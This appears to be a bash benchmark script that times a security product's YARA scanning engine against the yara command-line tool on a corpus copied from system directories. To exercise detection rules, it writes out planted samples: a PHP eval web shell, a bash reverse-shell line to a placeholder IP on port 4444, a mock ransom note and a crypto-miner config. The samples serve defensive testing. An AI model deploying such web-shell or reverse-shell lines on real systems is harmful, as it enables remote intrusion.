#!/bin/bash
# YARA scanning benchmark: CounterGuard's engine against the `yara` CLI, in the same run, on
# the same tree, with the same rules and thread counts (`cg-agent scan` settings); then the
# scheduled-scan settings (25 % CPU budget, lowest priority) for a first scan and a rescan of
# the unchanged tree with the incremental cache, and the same without a budget; peak RSS of
# every run. Prints a table of figures and ratios; exits 1 if the match sets differ.
#
#   tests/bench/yara_bench.sh BUILD_DIR/tests/bench/yara_bench_scan
#
# The corpus (>= CG_BENCH_CORPUS_MB, default 600) is copied at run time from this machine's
# /usr/share and /usr/lib into a temporary directory, with planted samples and one 96 MiB file
# (scanned through a mapping). Both scanners read from a warm page cache: the comparison is of
# scanning, which is CPU-bound (reading the tree warm takes a fraction of a second).
# Needs: yara (Debian package, same version as libyara), GNU time (/usr/bin/time), tar.
# CG_BENCH_REPEAT (default 2): runs per configuration, the fastest counts.
# CG_BENCH_KEEP=1 keeps the temporary directory.
set -euo pipefail
export LC_ALL=C

BENCH=${1:?usage: yara_bench.sh PATH/TO/yara_bench_scan}
HERE=$(cd "$(dirname "$0")" && pwd)
RULES=$HERE/rules/bench_rules.yar
TARGET_MB=${CG_BENCH_CORPUS_MB:-600}
REPEAT=${CG_BENCH_REPEAT:-2}
TIME=/usr/bin/time

for tool in yara "$TIME" tar awk; do
  command -v "$tool" >/dev/null || { echo "yara_bench: $tool is required" >&2; exit 2; }
done
[ -x "$BENCH" ] || { echo "yara_bench: $BENCH is not executable" >&2; exit 2; }

WORK=$(mktemp -d /tmp/cg-yara-bench.XXXXXX)
cleanup() { [ "${CG_BENCH_KEEP:-0}" = 1 ] || rm -rf "$WORK"; }
trap cleanup EXIT
CORPUS=$WORK/corpus
mkdir -p "$CORPUS/planted"

# ---- corpus ------------------------------------------------------------------------------
echo "building a ${TARGET_MB} MB corpus in $CORPUS ..." >&2
# Whole directories (every regular file below 32 MiB directly in them), taken in a fixed
# pseudo-random order until the target size: /usr/share's text and /usr/lib's binaries mix,
# and the tree keeps the shape of a real disk (6 to 16 files per directory here; sampling
# single files would make nearly every file a directory of its own).
find /usr/share /usr/lib -xdev -type f -size -32M -readable -printf '%h\t%s\t%p\n' 2>/dev/null |
  awk -F'\t' 'BEGIN { srand(20261126) }
    NF == 3 { if (!($1 in key)) key[$1] = rand(); print key[$1] "\t" $0 }' |
  sort -t$'\t' -k1,1 -k2,2 |
  awk -F'\t' -v target=$((TARGET_MB * 1024 * 1024)) '
    $2 != dir { if (total >= target) done = 1; dir = $2 }
    !done { total += $3; print $4 }' >"$WORK/files.txt"
tar -cf - --verbatim-files-from -T "$WORK/files.txt" 2>/dev/null | tar -xf - -C "$CORPUS"

# Planted samples for a few of the rules (and one large file, mapped rather than read).
printf '{"pools":[{"url":"pool.example.org:3333","algo":"rx/0"}], "cpu":{"max-threads-hint":50}}\n' \
  >"$CORPUS/planted/config.json"
printf '<?php @eval($_POST["cmd"]); ?>\n' >"$CORPUS/planted/shell.php"
printf '#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n' >"$CORPUS/planted/rev.sh"
printf 'Tat ca du lieu cua ban da bi ma hoa. bitcoin address: bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh\n' \
  >"$CORPUS/planted/README_RESTORE.txt"
printf 'junk CG-BENCH-PLANTED-SAMPLE junk\n' >"$CORPUS/planted/sample.bin"
printf 'stratum+tcp://pool.example.org:3333 --donate-level 1 xmrig\n' >"$CORPUS/planted/miner.sh"
# Clean, like most large files on a counter PC: matched files are read again by every scan,
# clean ones only when they change.
head -c $((96 * 1024 * 1024)) /dev/urandom >"$CORPUS/planted/large.bin"

FILES=$(find "$CORPUS" -type f | wc -l)
DIRS=$(find "$CORPUS" -type d | wc -l)
BYTES=$(find "$CORPUS" -type f -printf '%s\n' | awk '{ s += $1 } END { print s }')
MB=$(awk -v b="$BYTES" 'BEGIN { printf "%.1f", b / 1048576 }')
if [ "$BYTES" -lt $((TARGET_MB * 1024 * 1024)) ]; then
  echo "yara_bench: the corpus has $MB MB, less than the $TARGET_MB MB asked for" >&2
  exit 2
fi
echo "corpus: $MB MB in $FILES files; warming the page cache ..." >&2
tar -cf - -C "$CORPUS" . | cat >/dev/null

# ---- measuring ---------------------------------------------------------------------------
# run NAME CMD...: runs CMD REPEAT times under GNU time, keeps the fastest run's
# "wall user sys maxrss_kb" in $WORK/NAME.time and its stdout in $WORK/NAME.out.
run() {
  local name=$1
  shift
  local best=""
  for _ in $(seq "$REPEAT"); do
    "$TIME" -f '%e %U %S %M' -o "$WORK/$name.t" "$@" >"$WORK/$name.o" 2>"$WORK/$name.err" || true
    local wall
    wall=$(awk '{ print $1 }' "$WORK/$name.t")
    if [ -z "$best" ] || awk -v a="$wall" -v b="$best" 'BEGIN { exit !(a < b) }'; then
      best=$wall
      cp "$WORK/$name.t" "$WORK/$name.time"
      cp "$WORK/$name.o" "$WORK/$name.out"
    fi
  done
}
wall() { awk '{ print $1 }' "$WORK/$1.time"; }
cpu() { awk '{ print $2 + $3 }' "$WORK/$1.time"; }
rss_mb() { awk '{ printf "%.0f", $4 / 1024 }' "$WORK/$1.time"; }
mbps() { awk -v b="$BYTES" -v w="$(wall "$1")" 'BEGIN { printf "%.0f", b / 1048576 / w }'; }
ratio() { awk -v a="$1" -v b="$2" 'BEGIN { printf "%.2f", a / b }'; }

echo "scanning (each configuration $REPEAT times, fastest kept) ..." >&2
for n in 1 2; do
  run "yara_p$n" yara -r -N -w -p "$n" "$RULES" "$CORPUS"
  run "cg_t$n" "$BENCH" --rules "$RULES" --path "$CORPUS" --threads "$n" --hits "$WORK/cg_t$n.hits"
done
sort "$WORK/yara_p2.out" >"$WORK/yara.hits"
if cmp -s "$WORK/yara.hits" "$WORK/cg_t2.hits" && cmp -s "$WORK/yara.hits" "$WORK/cg_t1.hits"; then
  SAME="yes ($(wc -l <"$WORK/yara.hits") (rule, file) matches)"
else
  SAME="NO: see diff below"
fi

# Incremental, as scheduled scans use it (the only scans that keep a cache): 25 % of one core,
# lowest priority, two workers. The first scan fills the cache (and shows the budget holding),
# the second finds the tree unchanged. Under the budget wall time follows CPU time.
REPEAT_SAVED=$REPEAT
REPEAT=1
run cg_budget "$BENCH" --rules "$RULES" --path "$CORPUS" --threads 2 --cpu-budget 25 \
  --low-priority --cache "$WORK/sched.sqlite" --compiled "$WORK/compiled"
run cg_budget_rescan "$BENCH" --rules "$RULES" --path "$CORPUS" --threads 2 --cpu-budget 25 \
  --low-priority --cache "$WORK/sched.sqlite" --compiled "$WORK/compiled"
BUDGET_PCT=$(awk -v c="$(cpu cg_budget)" -v w="$(wall cg_budget)" 'BEGIN { printf "%.1f", 100 * c / w }')
# The same without a budget, on both cores, for comparison.
run cg_first "$BENCH" --rules "$RULES" --path "$CORPUS" --threads 2 \
  --cache "$WORK/files.sqlite" --compiled "$WORK/compiled"
REPEAT=$REPEAT_SAVED
run cg_rescan "$BENCH" --rules "$RULES" --path "$CORPUS" --threads 2 \
  --cache "$WORK/files.sqlite" --compiled "$WORK/compiled"
UNCHANGED=$(sed -n 's/.*"files_unchanged":\([0-9]*\).*/\1/p' "$WORK/cg_rescan.out")

# ---- report ------------------------------------------------------------------------------
ts() { date -u +%Y-%m-%dT%H:%M:%SZ; }
echo
echo "YARA scanning benchmark, $(ts), $(nproc) CPUs, load average $(cut -d' ' -f1-3 /proc/loadavg)"
echo "corpus: $MB MB, $FILES files in $DIRS directories (whole directories of this machine's /usr/share and /usr/lib, 7 planted files incl. a clean 96 MiB one)"
echo "rules: $(grep -c '^rule ' "$RULES") ($RULES); yara $(yara --version); fastest of $REPEAT_SAVED runs"
echo
printf '%-40s %8s %8s %8s %10s %s\n' "run" "wall s" "MB/s" "CPU s" "peak RSS" "ratio"
row() { printf '%-40s %8s %8s %8s %7s MB %s\n' "$1" "$(wall "$2")" "$(mbps "$2")" "$(cpu "$2")" "$(rss_mb "$2")" "${3:-}"; }
row "yara -r -N -p 1" yara_p1
row "CounterGuard, 1 thread" cg_t1 "$(ratio "$(mbps cg_t1)" "$(mbps yara_p1)")x yara (goal >= 1.0x)"
row "yara -r -N -p 2" yara_p2
row "CounterGuard, 2 threads" cg_t2 "$(ratio "$(mbps cg_t2)" "$(mbps yara_p2)")x yara (goal >= 1.5x)"
row "CounterGuard, 25% budget, low priority" cg_budget "CPU $BUDGET_PCT% of one core (goal <= 30%)"
row "  same, rescan of the unchanged tree" cg_budget_rescan \
  "$(ratio "$(wall cg_budget)" "$(wall cg_budget_rescan)")x faster than first (goal >= 20x)"
row "CounterGuard, no budget, first scan" cg_first
row "  same, rescan of the unchanged tree" cg_rescan \
  "$(ratio "$(wall cg_first)" "$(wall cg_rescan)")x faster; $UNCHANGED files unchanged"
echo
echo "same (rule, file) matches as yara: $SAME"
if [ "${SAME#yes}" = "$SAME" ]; then
  diff "$WORK/yara.hits" "$WORK/cg_t2.hits" | head -20
  exit 1
fi
